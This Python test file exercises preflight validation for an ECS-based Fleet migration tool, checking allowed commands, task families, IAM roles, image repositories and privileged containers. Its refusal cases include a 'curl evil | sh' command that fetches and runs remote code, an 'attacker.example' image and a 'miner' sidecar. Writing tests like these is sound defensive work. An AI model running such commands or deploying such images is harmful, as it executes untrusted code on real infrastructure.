"""Preflight checks of commands, family and task roles (fleet_migration/preflight.py), as plain functions and
at the run-task step, which checks the command again before RunTask."""

from __future__ import annotations

import json

import pytest

import check_drained
import describe_service
import run_task
import scale_down
from fleet_migration import preflight
from fleet_migration.errors import InvalidInput

EXECUTION_ROLE = "arn:aws:iam::123456789012:role/fleet-execution"
TASK_ROLE = "arn:aws:iam::123456789012:role/fleet-task"
ALLOWED = {
    preflight.FAMILY_ENV: "fleet",
    preflight.EXECUTION_ROLE_ENV: EXECUTION_ROLE,
    preflight.TASK_ROLE_ENV: TASK_ROLE,
}


def revision(**fields) -> dict:
    return {
        "taskDefinitionArn": "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet:3",
        "family": "fleet",
        "executionRoleArn": EXECUTION_ROLE,
        "taskRoleArn": TASK_ROLE,
        **fields,
    }


# -- commands ------------------------------------------------------------------------------------------


def test_without_a_setting_only_fleets_prepare_db_is_allowed() -> None:
    assert preflight.allowed_commands({}) == [["fleet", "prepare", "db"], ["fleet", "prepare", "db", "--no-prompt"]]


@pytest.mark.parametrize("command", [["fleet", "prepare", "db"], ["fleet", "prepare", "db", "--no-prompt"]])
def test_fleets_prepare_db_passes_by_default(command) -> None:
    preflight.check_command(command, preflight.allowed_commands({}))


@pytest.mark.parametrize(
    "command",
    [["sh", "-c", "curl evil | sh"], ["fleet", "prepare", "db", "--dev"], ["fleet", "prepare"], ["fleet prepare db"]],
)
def test_any_other_command_is_invalid_input_naming_the_field_and_the_fix(command) -> None:
    with pytest.raises(InvalidInput) as caught:
        preflight.check_command(command, preflight.allowed_commands({}))

    assert caught.value.details["fields"] == ["command"]
    assert caught.value.message.startswith(f"command: {json.dumps(command)} is not a command this deployment allows")
    assert (
        "AllowedCommands" in caught.value.message
        and '["fleet", "prepare", "db", "--no-prompt"]' in caught.value.message
    )


def test_the_deployment_chooses_its_commands() -> None:
    allowed = preflight.allowed_commands({preflight.ALLOWED_COMMANDS_ENV: '[["fleet", "prepare", "db", "--dev"]]'})

    preflight.check_command(["fleet", "prepare", "db", "--dev"], allowed)
    with pytest.raises(InvalidInput):
        preflight.check_command(["fleet", "prepare", "db", "--no-prompt"], allowed)


@pytest.mark.parametrize("setting", ['["fleet"]', "[]", '[["fleet", 1]]', '{"fleet": true}'])
def test_a_malformed_setting_is_an_error_naming_the_parameter(setting) -> None:
    with pytest.raises(ValueError, match="AllowedCommands"):
        preflight.allowed_commands({preflight.ALLOWED_COMMANDS_ENV: setting})


# -- family and roles ----------------------------------------------------------------------------------


def test_a_revision_of_the_allowed_family_with_the_allowed_roles_passes() -> None:
    preflight.check_family(revision(), ALLOWED)
    preflight.check_roles(revision(), ALLOWED)


def test_another_family_is_invalid_input_naming_task_definition() -> None:
    with pytest.raises(InvalidInput) as caught:
        preflight.check_family(revision(family="osquery"), ALLOWED)

    assert caught.value.details["fields"] == ["task_definition"]
    assert "TaskDefinitionFamily=osquery" in caught.value.message


@pytest.mark.parametrize(
    ("key", "parameter"), [("taskRoleArn", "TaskRoleArn"), ("executionRoleArn", "TaskExecutionRoleArn")]
)
def test_a_role_the_deployment_may_not_pass_is_invalid_input_naming_the_revision(key, parameter) -> None:
    admin = "arn:aws:iam::123456789012:role/admin"

    with pytest.raises(InvalidInput) as caught:
        preflight.check_roles(revision(**{key: admin}), ALLOWED)

    assert caught.value.details["fields"] == ["task_definition_revision"]
    assert f"has {key} {admin}" in caught.value.message and f"{parameter}={admin}" in caught.value.message


def test_a_task_role_is_refused_when_the_deployment_allows_none() -> None:
    with pytest.raises(InvalidInput, match="taskRoleArn"):
        preflight.check_roles(revision(), {**ALLOWED, preflight.TASK_ROLE_ENV: ""})


def test_a_role_named_by_its_name_is_the_role_of_that_name() -> None:
    preflight.check_roles(revision(taskRoleArn="fleet-task"), ALLOWED)
    with pytest.raises(InvalidInput):
        preflight.check_roles(revision(taskRoleArn="admin"), ALLOWED)


def test_without_settings_family_and_roles_are_left_to_iam() -> None:
    preflight.check_family(revision(family="osquery"), {})
    preflight.check_roles(revision(taskRoleArn="arn:aws:iam::123456789012:role/admin"), {})


# -- the run-task step checks again ----------------------------------------------------------------------


def test_the_run_task_step_refuses_a_command_the_deployment_no_longer_allows(
    emu, deployment, execution, lambda_context, monkeypatch
) -> None:
    # GIVEN a migration that passed the describe step and drained
    event = {"input": deployment.migration_input(poll_interval_seconds=1), "execution": execution()}
    state = scale_down.lambda_handler(describe_service.lambda_handler(event, lambda_context), lambda_context)
    emu.clock.advance(5)
    state = check_drained.lambda_handler(state, lambda_context)
    # WHEN its command is not (or no longer) allowed when the task would start
    monkeypatch.setenv(preflight.ALLOWED_COMMANDS_ENV, '[["fleet", "prepare", "db"]]')

    # THEN no task starts (the rollback that follows restores the services)
    with pytest.raises(InvalidInput, match="command"):
        run_task.lambda_handler(state, lambda_context)
    assert emu.ecs_sim.run_task_calls == []


@pytest.mark.parametrize("controller", ["CODE_DEPLOY", "EXTERNAL"])
def test_a_revision_restore_a_deployment_controller_cannot_take_is_refused_naming_why(controller):
    service = {
        "serviceName": "fleet",
        "taskDefinition": "arn:aws:ecs:us-east-1:1:task-definition/fleet:2",
        "deploymentController": {"type": controller},
    }

    with pytest.raises(InvalidInput) as refused:
        preflight.check_revision_restorable("ecs_service", service, "arn:aws:ecs:us-east-1:1:task-definition/fleet:1")

    assert refused.value.details["fields"] == ["ecs_service"]
    assert controller in refused.value.message and "fleet:1" in refused.value.message


@pytest.mark.parametrize("controller", ["CODE_DEPLOY", "EXTERNAL", "ECS"])
def test_a_service_serving_its_own_revision_needs_no_revision_restore_whatever_its_controller(controller):
    service = {"serviceName": "fleet", "deploymentController": {"type": controller}}

    preflight.check_revision_restorable("ecs_service", service, None)


def test_the_rolling_update_controller_takes_a_revision_back():
    preflight.check_revision_restorable("ecs_service", {"serviceName": "fleet"}, "fleet:1")  # no controller = ECS


@pytest.mark.parametrize(
    ("image", "repository"),
    [
        ("fleetdm/fleet:v4.60.0", "fleetdm/fleet"),
        ("fleetdm/fleet", "fleetdm/fleet"),
        ("fleetdm/fleet@sha256:" + "a" * 64, "fleetdm/fleet"),
        ("fleetdm/fleet:v4.60.0@sha256:" + "a" * 64, "fleetdm/fleet"),
        (
            "123456789012.dkr.ecr.us-east-1.amazonaws.com/fleet:v4.60.0",
            "123456789012.dkr.ecr.us-east-1.amazonaws.com/fleet",
        ),
        ("registry.example:5000/fleet", "registry.example:5000/fleet"),
        ("registry.example:5000/fleet:main", "registry.example:5000/fleet"),
    ],
)
def test_an_images_repository_is_its_reference_without_tag_or_digest(image, repository):
    assert preflight.repository(image) == repository


def _revision(arn: str, *containers: dict) -> dict:
    return {"taskDefinitionArn": arn, "containerDefinitions": list(containers)}


SERVING = _revision(
    "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet:1", {"name": "fleet", "image": "fleetdm/fleet:v4.59.0"}
)


def test_a_newer_image_from_the_serving_repository_is_allowed():
    new = _revision(
        "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet:2",
        {"name": "fleet", "image": "fleetdm/fleet:v4.60.0"},
    )

    preflight.check_against_serving(new, SERVING, "fleet", environ={})


def test_the_deployments_repositories_replace_the_serving_one():
    mirror = "123456789012.dkr.ecr.us-east-1.amazonaws.com/fleet"
    new = _revision(
        "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet:2", {"name": "fleet", "image": f"{mirror}:v4.60.0"}
    )

    preflight.check_against_serving(new, SERVING, "fleet", environ={preflight.IMAGE_REPOSITORIES_ENV: mirror})
    with pytest.raises(InvalidInput, match="AllowedImageRepositories"):
        preflight.check_against_serving(new, SERVING, "fleet", environ={})


VULN_SERVING = {
    "taskDefinitionArn": "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet-vuln-processing:1",
    "family": "fleet-vuln-processing",
    "containerDefinitions": [{"name": "fleet-vuln-processing", "image": "fleetdm/fleet:v4.59.0"}],
}


def test_against_the_vulnerability_services_own_family_only_the_migration_container_is_not_added():
    new = _revision(
        "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet:2",
        {"name": "fleet", "image": "fleetdm/fleet:v4.60.0"},
    )

    preflight.check_against_serving(new, VULN_SERVING, "fleet", environ={})


def test_against_the_vulnerability_services_own_family_a_sidecar_is_still_an_added_container():
    new = _revision(
        "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet:2",
        {"name": "fleet", "image": "fleetdm/fleet:v4.60.0"},
        {"name": "miner", "image": "fleetdm/fleet:v4.60.0"},
    )

    with pytest.raises(InvalidInput, match=r"adds container\(s\) miner"):
        preflight.check_against_serving(new, VULN_SERVING, "fleet", environ={})


def test_against_the_vulnerability_services_own_family_the_repository_is_that_of_the_image_it_runs():
    new = _revision(
        "arn:aws:ecs:us-east-1:123456789012:task-definition/fleet:2",
        {"name": "fleet", "image": "attacker.example/fleet:v4.60.0"},
    )

    with pytest.raises(InvalidInput, match="allows fleetdm/fleet"):
        preflight.check_against_serving(new, VULN_SERVING, "fleet", environ={})


# -- the families the services may be put on (UpdateService's ecs:task-definition condition) ---------------------

TD = "arn:aws:ecs:us-east-1:123456789012:task-definition"
WITH_VULN = {**ALLOWED, preflight.VULN_SERVICE_ENV: "fleet-vuln-processing"}


def service(name: str, task_definition: str) -> dict:
    return {"serviceName": name, "taskDefinition": f"{TD}/{task_definition}"}


def test_the_vulnerability_services_family_defaults_to_fleet_terraforms_name() -> None:
    assert preflight.allowed_service_families(WITH_VULN) == ["fleet", "fleet-vuln-processing"]
    assert preflight.allowed_service_families({**WITH_VULN, preflight.VULN_FAMILY_ENV: "vuln-scans"}) == [
        "fleet",
        "vuln-scans",
    ]


def test_without_a_vulnerability_service_only_the_fleet_family_is_allowed() -> None:
    assert preflight.allowed_service_families({**ALLOWED, preflight.VULN_FAMILY_ENV: "vuln-scans"}) == ["fleet"]


def test_services_serving_from_the_deployments_families_pass() -> None:
    preflight.check_service_families("ecs_service", service("fleet", "fleet:2"), f"{TD}/fleet:1", WITH_VULN)
    preflight.check_service_families(
        "vuln_service", service("fleet-vuln-processing", "fleet-vuln-processing:2"), None, WITH_VULN
    )


@pytest.mark.parametrize(
    ("field", "set_to", "serving", "environ"),
    [
        ("vuln_service", "fleet-vuln-processing:2", "fleet-vuln-processing:1", ALLOWED),
        ("ecs_service", "fleet:2", "fleet-preview:1", WITH_VULN),
        ("ecs_service", "fleet-preview:2", None, WITH_VULN),
    ],
    ids=["no-vuln-service-configured", "serves-from-another-family", "set-to-another-family"],
)
def test_a_service_on_a_family_the_deployment_does_not_allow_is_invalid_input_naming_the_setting(
    field, set_to, serving, environ
) -> None:
    with pytest.raises(InvalidInput) as caught:
        preflight.check_service_families(field, service("x", set_to), serving and f"{TD}/{serving}", environ)

    assert caught.value.details["fields"] == [field]
    assert caught.value.message.startswith(f"{field}: ")
    assert "VulnTaskDefinitionFamily" in caught.value.message and "Nothing was changed" in caught.value.message


def test_without_settings_the_services_families_are_left_to_iam() -> None:
    preflight.check_service_families("ecs_service", service("fleet", "osquery:1"), f"{TD}/osquery:1", {})


def test_a_serving_revision_with_a_privileged_container_cannot_be_brought_back() -> None:
    serving = revision(containerDefinitions=[{"name": "fleet"}, {"name": "agent", "privileged": True}])

    with pytest.raises(InvalidInput) as caught:
        preflight.check_restorable_unprivileged("ecs_service", serving)

    assert caught.value.details["fields"] == ["ecs_service"]
    assert "agent" in caught.value.message and "privileged" in caught.value.message
    preflight.check_restorable_unprivileged("ecs_service", revision(containerDefinitions=[{"name": "fleet"}]))
